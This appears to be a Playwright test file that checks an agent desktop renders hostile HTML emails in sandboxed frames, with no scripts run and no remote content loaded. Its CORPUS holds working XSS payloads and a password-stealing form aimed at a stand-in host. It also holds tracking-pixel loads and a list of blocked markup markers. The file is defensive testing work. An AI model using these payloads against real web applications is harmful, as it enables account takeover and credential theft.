"""An XSS corpus of hostile HTML mails, shown on the agent desktop in Chromium: nothing runs, nothing loads."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from channels_app.email.services import email_receive
from contacts.models import ContactPoint
from conversations.models import Direction, Interaction, Medium
from tests.email.mail import mail
from tests.factories import TEST_PASSWORD, AgentFactory, ContactPointFactory, ConversationFactory, ServiceFactory

pytestmark = [pytest.mark.browser]

CORPUS = [
    "<script>parent.__xss='script'</script>",
    "<img src=x onerror=\"parent.__xss='img'\">",
    "<a href=\"javascript:parent.__xss='a'\" id=js-link>click me</a>",
    "<svg onload=\"parent.__xss='svg'\"><circle r=10 /></svg>",
    "<iframe srcdoc=\"<script>parent.parent.__xss='frame'</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"parent.__xss='mxss'\">",
    '<meta http-equiv="refresh" content="0;url=javascript:parent.__xss=\'meta\'">',
    "<object data=\"javascript:parent.__xss='object'\"></object><embed src=\"javascript:parent.__xss='embed'\">",
    '<form action="https://evil.example/steal"><input name=pw><button id=form-button>go</button></form>',
    '<base href="javascript:/"><a href="relative">relative</a>',
    "<body onload=\"parent.__xss='body'\">text</body>",
    '<div style="background:url(https://tracker.example/bg.png)">background</div>',
    "<style>@import url(https://tracker.example/import.css);</style>styled",
    '<img src="https://tracker.example/pixel.gif" alt=pixel>',
    '<a href="data:text/html,<script>alert(1)</script>" id=data-link>data link</a>',
    "<details open ontoggle=\"parent.__xss='toggle'\"><summary>x</summary></details>",
]


@pytest.fixture
def hostile_conversation(transactional_db):
    service = ServiceFactory(media=[Medium.CHAT, Medium.EMAIL])
    agent = AgentFactory()
    point = ContactPointFactory(kind=ContactPoint.Kind.EMAIL, value="mallory@example.com")
    conversation = ConversationFactory(contact=point.contact, service=service, assigned_agent=agent.user)
    Interaction.objects.create(
        conversation=conversation,
        medium=Medium.EMAIL,
        direction=Direction.INBOUND,
        service=service,
        agent=agent.user,
        state=Interaction.State.ACTIVE,
        answered_at=conversation.opened_at,
        created_at=conversation.opened_at,
    )
    for index, html in enumerate(CORPUS):
        raw = mail(
            sender="mallory@example.com",
            subject=f"Hostile {index}",
            text=f"plain {index}",
            html=f"<p>hostile {index}</p>{html}",
        )
        assert email_receive(raw=raw).outcome == "message"
    return agent, conversation


def test_hostile_html_mails_execute_nothing_and_load_nothing_remote(hostile_conversation, live_server_url, browser):
    agent, conversation = hostile_conversation
    context = browser.new_context(locale="en-US")
    page = context.new_page()
    dialogs: list[str] = []
    remote: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    # A request the frame's policy blocks never reaches the network, so never this route.
    context.route(
        "https://*.example/**", lambda route: (remote.append(route.request.url), route.fulfill(status=204, body=""))
    )

    page.goto(f"{live_server_url}/login/")
    page.get_by_label("Username").fill(agent.user.username)
    page.get_by_label("Password").fill(TEST_PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{live_server_url}/desktop/")
    page.goto(f"{live_server_url}/desktop/c/{conversation.uuid}/")

    summaries = page.locator("details.email-html > summary")
    expect(summaries).to_have_count(len(CORPUS))
    for index in range(len(CORPUS)):
        summaries.nth(index).click()
    frames = page.locator("iframe.email-frame")
    expect(frames).to_have_count(len(CORPUS))
    for index in range(len(CORPUS)):
        frames.nth(index).scroll_into_view_if_needed()
        expect(page.frame_locator("iframe.email-frame").nth(index).locator("body")).to_be_attached()
    page.wait_for_timeout(1000)

    # Every frame is sandboxed, script-free and answered with its own policy.
    assert frames.evaluate_all(
        "fs => fs.every(f => f.getAttribute('sandbox') === 'allow-popups allow-popups-to-escape-sandbox')"
    )
    for frame in page.frames[1:]:
        html = frame.content()
        assert "<script" not in html.split("</style>", 1)[-1]
        for marker in (
            "onerror",
            "onload",
            "ontoggle",
            "javascript:",
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<meta http-equiv",
            "<base href",
        ):
            assert marker not in html.lower(), (marker, html)
    # Clicking what looks like a link or a button does nothing either.
    page.frame_locator("iframe.email-frame").nth(2).get_by_text("click me").click()
    page.wait_for_timeout(300)

    assert page.evaluate("window.__xss") is None
    assert dialogs == []
    # Remote images, backgrounds and imports are blocked until the agent allows them.
    assert remote == [], remote
    page.get_by_text("Show images").first.click()
    page.wait_for_timeout(1000)
    assert any("tracker.example" in url for url in remote)
    assert page.evaluate("window.__xss") is None
    context.close()
